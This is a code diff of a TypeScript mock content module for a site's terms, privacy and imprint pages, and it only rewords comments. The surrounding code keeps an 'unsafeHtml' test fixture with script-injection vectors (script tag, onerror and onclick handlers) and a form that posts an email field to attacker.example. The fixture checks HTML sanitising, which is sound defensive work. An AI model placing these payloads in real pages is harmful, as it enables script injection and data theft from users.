@@ -5,12 +5,12 @@ import { imprintTexts, invitationTexts } from "./editorialTexts"
 import { privacyTexts } from "./privacyTexts"
 import { termsTexts } from "./termsTexts"
 
-/** Documents that exist once for each country too, as `terms-at`. */
+/** Documents that also exist once per country, such as `terms-at`. */
 const countryTexts: Record<string, TranslatedText> = { terms: termsTexts, privacy: privacyTexts }
 
 const editorialTexts: Record<string, TranslatedText> = { imprint: imprintTexts, invitations: invitationTexts }
 
-/** Ids of editorial pages and what they show, for the start page. */
+/** Ids of editorial pages with a description, for the start page. */
 export const contentSamples: Record<string, string> = {
   terms: "Terms and Conditions",
   "terms-at": "Terms and Conditions for Austria",
@@ -24,7 +24,7 @@ export const contentSamples: Record<string, string> = {
   "no-such-page": "Unknown to the backend",
 }
 
-/** HTML with every usual way to smuggle a script, around text that has to stay. */
+/** HTML with every common way to smuggle in a script, around text that has to stay. */
 const unsafeHtml = `<p>This sentence stays.</p>
 <script>document.title = "unsafe"</script>
 <img src="x" alt="" onerror="document.title = 'unsafe'">
@@ -34,7 +34,7 @@ const unsafeHtml = `<p>This sentence stays.</p>
 <form action="https://attacker.example/"><input name="email"><button>Send</button></form>
 <p style="position: fixed; inset: 0" onclick="document.title = 'unsafe'">This one too.</p>`
 
-/** A text of every kind of paragraph, on several printed pages. */
+/** A text with every kind of paragraph, several printed pages long. */
 function longHtml(language: Language): string {
   const sections = [termsTexts, privacyTexts, imprintTexts, invitationTexts].flatMap(
     (texts) => texts[language].sections,
@@ -52,7 +52,7 @@ function html({ intro, sections }: ContentText): string {
   return `<p>${intro}</p>${parts.join("")}`
 }
 
-/** The texts behind an id, with the country that the id names. */
+/** The texts for an id, with the country that the id names. */
 function find(id: string): { texts: TranslatedText; country: string } | null {
   const [kind = "", iso] = id.split("-")
   const country = iso?.toUpperCase() ?? ""
@@ -62,7 +62,7 @@ function find(id: string): { texts: TranslatedText; country: string } | null {
   return texts ? { texts, country: "" } : null
 }
 
-/** The answer of contentPage: a page in the asked language; null when there is none. */
+/** The response of contentPage: a page in the requested language; null if there is none. */
 export function contentPage(id: string, language: Language) {
   const updatedAt = "2026-03-01T09:00:00Z"
   if (id === "unsafe") return { id, title: "Unsafe", html: unsafeHtml, updatedAt }
